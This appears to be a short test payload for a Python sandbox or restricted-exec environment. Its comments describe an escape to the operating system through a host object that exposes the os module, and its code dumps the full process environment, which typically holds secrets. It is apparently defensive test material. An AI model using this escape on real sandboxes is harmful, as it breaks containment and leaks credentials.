# ruff: noqa - a hostile script, kept as written
# threat: 1 reach the operating system
# technique: a host object holds the os module: engine.module.environ
# naive exec: escapes: module references on host objects are handed out
engine = app.state.lmcache_adapter.lmcache_engine
result = "ESCAPED " + str(dict(engine.module.environ))
